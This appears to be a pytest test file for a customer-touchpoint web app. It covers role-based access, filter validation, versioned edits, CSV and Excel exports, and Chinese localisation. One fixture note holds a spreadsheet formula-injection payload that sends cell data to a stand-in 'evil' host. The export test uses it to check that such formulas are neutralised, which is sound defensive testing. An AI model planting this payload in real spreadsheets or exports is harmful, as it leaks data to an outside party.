"""The touchpoint list and edit pages: filters, roles, bad input, versioned edits, exports, Chinese."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from retento.touchpoints.models import Touchpoint
from tests.customers.test_versions import _edit_form
from tests.factories import make_customer, make_touchpoint
from tests.web.conftest import Browser


@pytest.fixture
def web(client, users) -> Browser:
    return Browser(client)


def _touchpoints(db, users):
    ada = make_customer(db, name="Ada Lovelace", external_id="C-ADA", owner_id=users["agent"].id)
    bob = make_customer(db, name="Bob Stone", external_id="C-BOB")
    t1 = make_touchpoint(
        db, ada, occurred_at=datetime(2025, 1, 5, 9, tzinfo=UTC), channel="phone",
        stage="information", direction="inbound", outcome="positive", note="Asked about prices",
    )  # fmt: skip
    t2 = make_touchpoint(
        db, ada, occurred_at=datetime(2025, 2, 5, 9, tzinfo=UTC), channel="email",
        stage="after_sales", direction="outbound", outcome="negative",
        note='=HYPERLINK("http://evil/?"&A1,"Refund")',
    )  # fmt: skip
    t3 = make_touchpoint(
        db, bob, occurred_at=datetime(2025, 3, 5, 9, tzinfo=UTC), channel="email",
        stage="information", direction="inbound", outcome="neutral",
    )  # fmt: skip
    db.commit()
    return t1, t2, t3


def _ids(page) -> list[int]:
    assert page.status_code == 200, page.text[:500]
    return [int(i) for i in re.findall(r'<tr id="touchpoint-(\d+)">', page.text)]


def test_roles_and_export_links(web, db, users):
    t1, t2, t3 = _touchpoints(db, users)
    for role in ("admin", "manager", "agent", "analyst"):
        web.client.cookies.clear()
        web.login(role)
        page = web.get("/touchpoints")
        assert len(_ids(page)) == 3, role
        assert page.text.count('class="active"') == 1
        exports = role != "agent"
        assert ("/touchpoints/export.csv" in page.text) is exports, role
        assert web.get("/touchpoints/export.csv").status_code == (200 if exports else 403)
        # The agent edits touchpoints of customers they own only; analysts edit nothing.
        edits = set(map(int, re.findall(r'href="/touchpoints/(\d+)/edit"', page.text)))
        expected = {
            "admin": {t1.id, t2.id, t3.id},
            "manager": {t1.id, t2.id, t3.id},
            "agent": {t1.id, t2.id},
            "analyst": set(),
        }[role]
        assert edits == expected, role
    assert web.get(f"/touchpoints/{t1.id}/edit").status_code == 403  # analyst


def test_filters(web, db, users):
    t1, t2, t3 = _touchpoints(db, users)
    web.login("manager")
    assert _ids(web.get("/touchpoints")) == [t3.id, t2.id, t1.id]
    assert _ids(web.get("/touchpoints?sort=occurred_at")) == [t1.id, t2.id, t3.id]
    assert _ids(web.get("/touchpoints?customer=lovelace")) == [t2.id, t1.id]
    assert _ids(web.get("/touchpoints?customer=C-BOB")) == [t3.id]
    assert _ids(web.get("/touchpoints?channel=email")) == [t3.id, t2.id]
    assert _ids(web.get("/touchpoints?stage=information")) == [t3.id, t1.id]
    assert _ids(web.get("/touchpoints?direction=outbound")) == [t2.id]
    assert _ids(web.get("/touchpoints?outcome=positive")) == [t1.id]
    assert _ids(web.get("/touchpoints?since=2025-02-01&until=2025-02-28")) == [t2.id]
    assert _ids(web.get("/touchpoints?channel=email&stage=information")) == [t3.id]


@pytest.mark.parametrize(
    "query, field",
    [
        ("channel=pigeon", "channel"),
        ("stage=x", "stage"),
        ("direction=sideways", "direction"),
        ("outcome=great", "outcome"),
        ("since=01/02/2025", "since"),
        ("since=2025-03-01&until=2025-01-01", "until"),
        ("sort=note", "sort"),
    ],
)
def test_bad_filters_answer_422_naming_the_field(web, db, users, query, field):
    web.login("manager")
    r = web.get("/touchpoints?" + query)
    assert r.status_code == 422 and field in r.text
    assert web.get("/touchpoints/export.xlsx?" + query).status_code == 422


def test_edit_saves_and_bad_input_is_refused(web, db, users):
    t1, *_ = _touchpoints(db, users)
    web.login("agent")
    form = _edit_form(web, f"/touchpoints/{t1.id}/edit")
    assert form["version"] == "1" and form["channel"] == "phone"
    bad = web.post(f"/touchpoints/{t1.id}/edit", {**form, "occurred_at": "soon"})
    assert bad.status_code == 422 and 'id="e-occurred_at"' in bad.text
    bad = web.post(f"/touchpoints/{t1.id}/edit", {**form, "channel": "pigeon"})
    assert bad.status_code == 422 and "aria-invalid" in bad.text
    ok = web.post(
        f"/touchpoints/{t1.id}/edit", {**form, "outcome": "negative", "note": "Call back"}
    )
    assert ok.status_code == 303
    db.expire_all()
    t = db.get(Touchpoint, t1.id)
    assert (t.outcome, t.note, t.version) == ("negative", "Call back", 2)


def test_a_stale_edit_gets_the_conflict_page(web, db, users, tokens):
    t1, *_ = _touchpoints(db, users)
    web.login("manager")
    form = _edit_form(web, f"/touchpoints/{t1.id}/edit")
    r = web.client.patch(
        f"/api/v1/touchpoints/{t1.id}", json={"note": "Changed by admin"}, headers=tokens["admin"]
    )
    assert r.status_code == 200
    page = web.post(f"/touchpoints/{t1.id}/edit", {**form, "note": "Mine"})
    assert page.status_code == 409 and "Someone else changed" in page.text
    row = re.search(r'<tr data-field="note">(.*?)</tr>', page.text, re.S).group(1)
    assert "Mine" in row and "Changed by admin" in row
    db.expire_all()
    assert db.get(Touchpoint, t1.id).note == "Changed by admin"


def test_exports_follow_the_filter_and_neutralise_formulas(web, db, users):
    _touchpoints(db, users)
    web.login("analyst")
    r = web.get("/touchpoints/export.csv?customer=lovelace&direction=outbound")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["external_id", "customer_external_id", "occurred_at"]
    assert len(rows) == 2 and rows[1][1] == "C-ADA"
    assert rows[1][-1] == '\'=HYPERLINK("http://evil/?"&A1,"Refund")'
    x = web.get("/touchpoints/export.xlsx?customer=lovelace")
    ws = load_workbook(io.BytesIO(x.content)).active
    values = list(ws.values)
    assert len(values) == 3
    notes = [ws.cell(row=n, column=9) for n in (2, 3)]
    assert all(c.data_type == "s" for c in notes)
    assert any(str(c.value).startswith("'=HYPERLINK") for c in notes)


def test_the_pages_speak_chinese(web, db, users):
    t1, *_ = _touchpoints(db, users)
    web.login("manager")
    web.post("/locale", data={"lang": "zh_CN", "next": "/touchpoints"})
    page = web.get("/touchpoints")
    assert "触点" in page.text and "导出" in page.text
    assert "编辑客户触点" in web.get(f"/touchpoints/{t1.id}/edit").text
